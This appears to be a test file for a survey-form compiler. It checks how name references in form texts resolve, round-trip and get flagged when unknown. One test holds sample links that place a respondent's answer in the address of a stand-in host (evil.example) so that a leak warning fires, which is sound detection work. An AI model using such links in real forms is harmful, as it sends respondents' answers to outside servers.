import { describe, expect, test } from 'vitest';
import { compileWorkbook } from '#shared/compiler.ts';
import { notesAbout } from '#shared/design-notes.ts';
import { writeWorkbook } from '#shared/compile/write-workbook.ts';
import { workbookOf } from './workbook-of.ts';

const survey = `
| type | name | label | hint | constraint | constraint_message |
| begin_group | person | Person | | | |
| text | name | Name | | | |
| select_one sex | sex | Sex of \${name} | | | |
| integer | weight | Weight of \${ name } | In kg, \${person.sex} | . < 300 | \${name} cannot weigh so much |
| end_group | | | | | |
| begin_group | course | Course of \${name} | | | |
| select_one who | who | Who | | | |
| select_one sex | other | Sex | | | |
| note | cost | Costs \${5} and \${nam} and \${name | | | |
| end_group | | | | | |`;
const choices = `
| list_name | name | label |
| sex | m | Man |
| sex | f | Woman |
| who | self | \${name} |
| who | none | Nobody but \${nobody} |`;
const compiled = () => compileWorkbook(workbookOf({ survey, choices, settings: '| form_title |\n| F |' }));

describe('names in the texts of a workbook', () => {
  test('are written out with their pages', () => {
    const [person, course] = compiled().design!.pages;
    expect(person!.items[1]!.title).toEqual({ en: 'Sex of ${person.name}' });
    expect(person!.items[2]).toMatchObject({
      title: { en: 'Weight of ${person.name}' },
      description: { en: 'In kg, ${person.sex}' },
      constraint_message: { en: '${person.name} cannot weigh so much' },
    });
    expect(course).toMatchObject({ title: { en: 'Course of ${person.name}' } });
    expect(course!.items[0]).toMatchObject({ choices: [{ title: { en: '${person.name}' } }, { title: { en: 'Nobody but ${nobody}' } }] });
  });

  test('in the address of a link are reported, because the link sends the answer to another server', () => {
    const survey = `
| type | name | label | hint |
| text | name | Name | |
| note | a | [map](https://evil.example/?n=\${name}) | |
| note | b | [plain](https://evil.example/) of \${name} | <a href="mailto:a@b.example?body=\${name}">write</a> |
| note | c | [call](tel:\${name}) | |
| select_one l | d | D | |`;
    const choices = '| list_name | name | label |\n| l | x | **X** [x](https://x.example/${name}) |';
    const { diagnostics } = compileWorkbook(workbookOf({ survey, choices, settings: '| form_title |\n| F |' }));
    expect(diagnostics.map(({ severity, code, sheet, cell, params }) => [severity, code, `${sheet}!${cell}`, params['to'], params['path']])).toEqual([
      ['note', 'design.link_sends_answer', 'survey!C3', 'evil.example', 'main.name'],
      ['note', 'design.link_sends_answer', 'survey!D4', 'a@b.example', 'main.name'],
      ['note', 'design.link_sends_answer', 'choices!C2', 'x.example', 'main.name'],
    ]);
  });

  test('in one link of several languages are reported once', () => {
    const survey = '| type | name | label::en | label::ja |\n| text | a | A | A |\n| note | b | [x](https://x.example/${a}) | [い](https://x.example/${a}) |';
    const { design } = compileWorkbook(workbookOf({ survey, settings: '| form_title::en | form_title::ja |\n| F | F |' }));
    expect(notesAbout(design!).map(({ code, cell }) => `${code} ${cell}`)).toEqual(['design.link_sends_answer pages[0].items[1].title']);
  });

  test('that nothing has stay as they are, with a finding in their cell and a name that is close', () => {
    const { diagnostics } = compiled();
    const found = diagnostics.filter(({ code }) => code === 'design.text_unknown_item').map(({ severity, sheet, cell, params }) => [severity, sheet, cell, params['path'], params['suggestion']]);
    expect(found).toEqual([
      ['note', 'survey', 'C10', '5', ''],
      ['note', 'survey', 'C10', 'nam', 'name'],
      ['note', 'choices', 'C5', 'nobody', ''],
    ]);
    expect(compiled().design!.pages[1]!.items[2]!.title).toEqual({ en: 'Costs ${5} and ${nam} and ${name' });
  });

  test('leave a list that mentions nothing one list of its items', () => {
    const [person, course] = compiled().design!.pages;
    expect((person!.items[1] as { choices?: unknown }).choices).toBe((course!.items[1] as { choices?: unknown }).choices);
  });

  test('are the same after another round', () => {
    const { design } = compiled();
    expect(compileWorkbook(writeWorkbook(design!)).design).toEqual(design);
  });

  test('mean the nearest of several items of that name', () => {
    const rows = ['mother', 'father'].flatMap((who) => [`| begin_group | ${who} | ${who} |`, '| text | name | Name |', '| begin_group | more | More |', '| integer | years | Age of ${name} |', '| select_one who | pick | Pick |', '| end_group | | |', '| end_group | | |']);
    const { design } = compileWorkbook(workbookOf({ survey: ['| type | name | label |', '| begin_group | all | All |', ...rows, '| end_group | | |'].join('\n'), choices: '| list_name | name | label |\n| who | self | ${name} |' }));
    const [mother, father] = design!.pages[0]!.items as unknown as readonly { readonly items: readonly [{ readonly name: string }, { readonly items: readonly [{ readonly title: object }, { readonly choices: readonly object[] }] }] }[];
    const [first, second] = [mother, father].map((each) => each!.items);
    expect([first![1].items[0].title, second![1].items[0].title]).toEqual([{ en: `Age of \${all.${first![0].name}}` }, { en: `Age of \${all.${second![0].name}}` }]);
    expect(first![0].name).not.toBe(second![0].name);
    expect([first![1].items[1].choices, second![1].items[1].choices]).toMatchObject([[{ title: { en: `\${all.${first![0].name}}` } }], [{ title: { en: `\${all.${second![0].name}}` } }]]);
  });

  test('are written out in a list that items share', () => {
    const long = Array.from({ length: 60 }, (_, at) => `| long | v${at} | ${at === 7 ? 'Like ${name}' : `V ${at}`} |`).join('\n');
    const { design, diagnostics } = compileWorkbook(workbookOf({ survey: '| type | name | label |\n| text | name | Name |\n| select_one long | a | A |\n| select_one long | b | B |', choices: `| list_name | name | label |\n${long}` }));
    expect(design!.lists!['long']![7]!.title).toEqual({ en: 'Like ${main.name}' });
    expect(diagnostics.filter(({ code }) => code.startsWith('design.text'))).toEqual([]);
  });
});
